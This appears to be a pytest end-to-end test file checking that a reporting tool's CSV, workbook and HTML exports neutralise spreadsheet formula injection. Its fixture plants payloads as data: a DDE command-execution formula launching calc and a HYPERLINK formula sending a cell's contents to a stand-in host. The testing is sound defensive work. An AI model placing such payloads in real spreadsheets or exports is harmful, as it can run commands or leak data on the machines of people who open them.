"""A unit files texts that a spreadsheet would run: wherever they are given out they are texts, and say what was filed."""

import csv
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook

from schemas.spreadsheet_texts import is_formula, unmark_text
from tests.bureau import change, file_unit, rows

pytestmark = pytest.mark.end_to_end

UNIT, NAME = "@U+1", "+甲\x01镇;=1+1"
RUN, CALL, LINK = "=cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
OFFICE = shutil.which("soffice")
FORMULA = re.compile(r'table:formula="([^"]*)"')


@pytest.fixture(scope="module")
def given_out(module_bureau):
    """What is given out of a filing full of formulas."""
    bureau, folder = module_bureau, module_bureau.folder / "out"
    tables = file_unit(UNIT, unit_name=NAME)
    tables = change(tables, "execution", {"month": "6"}, executed_wan_yuan=RUN)
    tables = change(tables, "projects", {"project_code": "P1"}, project_name=LINK)
    tables = change(tables, "indicators", {"subject_code": "P1"}, indicator_name=CALL, actual_value="约12")
    tables["metrics"] = rows("metric_code metric_name value unit_of_measure", "-m1|+1+1|-2.5|元\nm2|'=1+1|3|元")
    bureau.file_csvs("formulas", tables)
    bureau.run()
    folder.mkdir()
    for words in (
        ("publish", "--out", str(folder / "edition")),
        ("return", UNIT, "2023", "--out", str(folder / "returned.xlsx")),
        ("template", "--year", "2024", "--unit", UNIT, "--out", str(folder / "template.xlsx")),
        ("evidence", UNIT, "2023", "--out", str(folder / "evidence.zip")),
    ):
        done = bureau.call(*words)
        assert done.exit_code == 0, (words, done.output, done.exception)
    with zipfile.ZipFile(folder / "evidence.zip") as bundle:
        page = next(name for name in bundle.namelist() if name.endswith("report.html"))
        (folder / "report.html").write_bytes(bundle.read(page))
    for verb in ("findings", "changes"):
        told = bureau.call(verb, "--year", "2023", "--format", "csv").stdout
        (folder / f"{verb}.csv").write_text(told, encoding="utf-8")
    return folder


def read_fields(text):
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def test_texts_in_every_csv_are_none_a_spreadsheet_would_run_and_can_be_had_again(given_out, module_bureau):
    """What verbs print as CSV was not looked after at all; and an apostrophe of the unit's own could not be told from one of ours."""
    files = [*given_out.glob("*.csv"), *given_out.glob("edition/csv/*.csv")]
    fields = [field for file in files for field in read_fields(file.read_text(encoding="utf-8-sig"))]
    assert len(fields) > 400
    assert [field for field in fields if is_formula(field)] == []
    assert {UNIT, NAME, RUN, LINK, "-m1", "+1+1", "'=1+1", "-2.5"} <= set(map(unmark_text, fields))
    listed = module_bureau.read("findings", "--year", "2023")
    printed = list(csv.DictReader(io.StringIO((given_out / "findings.csv").read_text(encoding="utf-8"))))
    assert [{name: unmark_text(text) or None for name, text in row.items()} for row in printed] == listed


def test_sign_that_xml_has_no_place_for_is_told_in_a_workbook_and_the_rest_of_the_text_stands(given_out):
    """For a unit that had typed one in its name no template could be made: a traceback."""
    title = load_workbook(given_out / "template.xlsx").properties.title
    assert title.startswith("+甲\ufffd镇;=1+1 2024 ")


@pytest.mark.parametrize("name", ["returned.xlsx", "template.xlsx"])
def test_texts_in_workbooks_are_texts_and_stay_so_when_they_are_typed_again(name, given_out):
    """The code of a unit stood as a formula in the hidden stamp of its template; what looks like a formula became one by F2 and Enter."""
    cells = [cell for sheet in load_workbook(given_out / name) for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    told = [cell for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)]
    assert {"+1+1", "-m1"} <= {cell.value for cell in told}
    assert [cell.coordinate for cell in told if not cell.quotePrefix and cell.number_format != "@"] == []


def test_what_is_given_out_of_a_filing_full_of_formulas_holds_none_in_a_spreadsheet(given_out, tmp_path):
    """LibreOffice takes fields apart at semicolons too, and runs what stands in the table of a page that is opened or pasted."""
    if OFFICE is None:
        pytest.skip("soffice (LibreOffice) is not installed: what it makes of our files is not tried")
    (tmp_path / "control.csv").write_text("a;=1+1\n", encoding="utf-8")
    given = [*given_out.glob("*.csv"), *given_out.glob("edition/csv/newest_*.csv"), *given_out.glob("*.xlsx")]
    page = shutil.copy(given_out / "report.html", tmp_path / "report.xls")
    words = [OFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "fods"]
    for more, files in (
        (["--infilter=CSV:44/59/9,34,76"], [tmp_path / "control.csv", *(one for one in given if one.suffix == ".csv")]),
        ([], [page, *(one for one in given if one.suffix == ".xlsx")]),
    ):
        asked = [*words, *more, "--outdir", str(tmp_path), *map(str, files)]
        subprocess.run(asked, check=True, capture_output=True, timeout=120)
    found = {one.stem: FORMULA.findall(one.read_text(encoding="utf-8")) for one in tmp_path.glob("*.fods")}
    assert found.pop("control") == ["of:=1+1"]
    assert len(found) == len(given) + 1
    assert {name: formulas for name, formulas in found.items() if formulas} == {}
